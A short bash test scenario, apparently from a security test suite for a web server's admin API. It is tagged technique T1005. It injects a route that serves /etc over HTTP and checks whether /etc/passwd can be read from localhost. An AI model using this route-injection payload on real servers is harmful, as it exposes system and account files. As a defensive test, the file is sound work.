# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1005
about="the API adds a route that serves /etc"
attack() {
	route '{"match":[{"path":["/passwd"]}],"handle":[{"handler":"file_server","root":"/etc"}],"terminal":true}'
	ask http://127.0.0.1:8080/passwd >"$state/answer"
}
effect() { grep -q '^root:' "$state/answer"; }
